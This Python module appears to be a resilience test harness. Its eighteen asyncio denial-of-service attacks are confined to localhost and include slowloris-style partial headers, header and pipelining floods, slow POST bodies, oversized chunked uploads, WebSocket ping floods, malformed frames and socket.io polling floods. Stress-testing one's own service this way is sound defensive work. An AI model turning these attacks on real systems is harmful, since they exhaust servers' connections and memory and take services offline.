"""Attacks on connections: coroutines that end by themselves and only target this machine."""

import asyncio
import base64
import contextlib
import os
import socket
import struct
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine
from typing import Any

Attack = Callable[[int, float], Coroutine[Any, Any, None]]
"""Called with a port of this machine and the seconds the attack may take."""

_POST = b"POST /api/detect HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=B\r\n"
_FILE = b'--B\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n'
_KEY = base64.b64encode(bytes(16))
_TEXT, _BYTES, _CONTINUED, _PING, _LAST = 0x1, 0x2, 0x0, 0x9, 0x80


class Wire:
    """A raw connection that sends anything and reads only on request."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer

    async def send(self, data: bytes) -> None:
        self._writer.write(data)
        await self._writer.drain()

    async def read_until(self, end: bytes) -> bytes:
        return await self._reader.readuntil(end)

    async def read_all(self) -> bytes:
        return await self._reader.read()

    def close(self) -> None:
        self._writer.transport.abort()

    def reset(self) -> None:
        client = self._writer.get_extra_info("socket")
        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.close()


@contextlib.asynccontextmanager
async def connected(port: int) -> AsyncIterator[Wire]:
    """A connection that does not read ahead, so that unread answers stay in the service."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, limit=4096)
    wire = Wire(reader, writer)
    try:
        yield wire
    finally:
        wire.close()


async def opened(wire: Wire, path: bytes = b"/socket.io/?EIO=4&transport=websocket") -> None:
    """Make a WebSocket of a connection."""
    await wire.send(
        b"GET %s HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %s\r\n\r\n" % (path, _KEY)
    )
    await wire.read_until(b"\r\n\r\n")


def frame(opcode: int, payload: bytes = b"", announced: int | None = None) -> bytes:
    """A WebSocket frame of a client, masked with zeros; it may announce more bytes than it has."""
    size = len(payload) if announced is None else announced
    if size < 126:
        head = struct.pack("!BB", opcode, 0x80 | size)
    elif size < 65536:
        head = struct.pack("!BBH", opcode, 0x80 | 126, size)
    else:
        head = struct.pack("!BBQ", opcode, 0x80 | 127, size)
    return head + bytes(4) + payload


async def _again_and_again(
    attack: Callable[[int], Awaitable[None]], port: int, seconds: float, connections: int
) -> None:
    """Attack on this many connections at once; closed ones are opened again."""
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds

    async def one() -> None:
        while loop.time() < end:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, TimeoutError):
                async with asyncio.timeout_at(end):
                    await attack(port)
            await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(connections)))


async def endless_headers(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(b"GET / HTTP/1.1\r\nHost: x\r\n")
            for number in range(100_000):
                await wire.send(b"X-%d: %s\r\n" % (number, b"a" * 2000))

    await _again_and_again(attack, port, seconds, 4)


async def one_endless_header(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(b"GET / HTTP/1.1\r\nHost: x\r\nX: ")
            for _ in range(1000):
                await wire.send(b"a" * 100_000)

    await _again_and_again(attack, port, seconds, 4)


async def thousands_of_short_headers(port: int, seconds: float) -> None:
    block = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"a:b\r\n" * 60_000 + b"\r\n"

    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(block)
            await wire.read_all()

    await _again_and_again(attack, port, seconds, 8)


async def half_headers(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 20_000)
            await wire.read_all()

    await _again_and_again(attack, port, seconds, 300)


async def idle_connections(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.read_all()

    await _again_and_again(attack, port, seconds, 600)


async def reset_requests(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(b"GET /auth/profile HTTP/1.1\r\nHost: x\r\n\r\n")
            wire.reset()

    await _again_and_again(attack, port, seconds, 200)


async def new_connections(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(b"GET /auth/profile HTTP/1.1\r\nHost: x\r\n\r\n")
            await wire.read_until(b"\r\n\r\n")

    await _again_and_again(attack, port, seconds, 200)


async def pipelined_requests(port: int, seconds: float) -> None:
    block = b"GET /api/history HTTP/1.1\r\nHost: x\r\n\r\n" * 2000

    async def attack(port: int) -> None:
        async with connected(port) as wire:
            for _ in range(100):
                await wire.send(block)

    await _again_and_again(attack, port, seconds, 20)


async def unread_answers(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(b"GET /docs/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 100)
            await asyncio.sleep(60)

    await _again_and_again(attack, port, seconds, 200)


async def slow_bodies(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(_POST + b"Content-Length: 5000000\r\n\r\n" + _FILE + bytes(300_000))
            while True:
                await wire.send(b"a")
                await asyncio.sleep(0.5)

    await _again_and_again(attack, port, seconds, 200)


async def slow_json(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(
                b"POST /auth/verify-token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                b"Content-Length: 60000\r\n\r\n" + b'{"id_token": "' + b"a" * 50_000
            )
            while True:
                await wire.send(b"a")
                await asyncio.sleep(0.5)

    await _again_and_again(attack, port, seconds, 200)


async def unwanted_bodies(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(
                b"POST /nowhere HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
            )
            chunk = b"100000\r\n" + bytes(0x100000) + b"\r\n"
            for _ in range(200):
                await wire.send(chunk)

    await _again_and_again(attack, port, seconds, 4)


async def unread_pongs(port: int, seconds: float) -> None:
    block = frame(_PING | _LAST, bytes(125)) * 500

    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await opened(wire)
            for _ in range(1000):
                await wire.send(block)

    await _again_and_again(attack, port, seconds, 8)


async def unfinished_messages(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await opened(wire)
            await wire.send(frame(_TEXT | _LAST, b"4" * 15_000_000, announced=16_000_000))
            await wire.read_all()

    await _again_and_again(attack, port, seconds, 30)


async def tiny_fragments(port: int, seconds: float) -> None:
    block = frame(_CONTINUED, b"a") * 10_000

    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await opened(wire)
            await wire.send(frame(_TEXT, b"4"))
            for _ in range(100):
                await wire.send(block)

    await _again_and_again(attack, port, seconds, 8)


async def silent_sockets(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await opened(wire)
            await wire.send(frame(_TEXT, b"4" * 60_000))
            await wire.read_all()

    await _again_and_again(attack, port, seconds, 200)


async def abandoned_polling(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            for _ in range(200):
                await wire.send(
                    b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n\r\n"
                )
                await wire.read_until(b'"maxPayload"')

    await _again_and_again(attack, port, seconds, 8)


async def polled_megabytes(port: int, seconds: float) -> None:
    async def attack(port: int) -> None:
        async with connected(port) as wire:
            await wire.send(b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n\r\n")
            answer = await wire.read_until(b'","upgrades"')
            sid = answer.rpartition(b'"sid":"')[2].removesuffix(b'","upgrades"')
            await wire.send(
                b"POST /socket.io/?EIO=4&transport=polling&sid=%s HTTP/1.1\r\nHost: x\r\n"
                b"Content-Length: 15000000\r\n\r\n4" % sid + os.urandom(1000) * 14_000
            )
            await asyncio.sleep(60)

    await _again_and_again(attack, port, seconds, 30)


ATTACKS: list[Attack] = [
    endless_headers, one_endless_header, thousands_of_short_headers, half_headers,
    idle_connections, reset_requests, new_connections, pipelined_requests, unread_answers,
    slow_bodies, slow_json, unwanted_bodies, unread_pongs, unfinished_messages, tiny_fragments,
    silent_sockets, abandoned_polling, polled_megabytes,
]  # fmt: skip
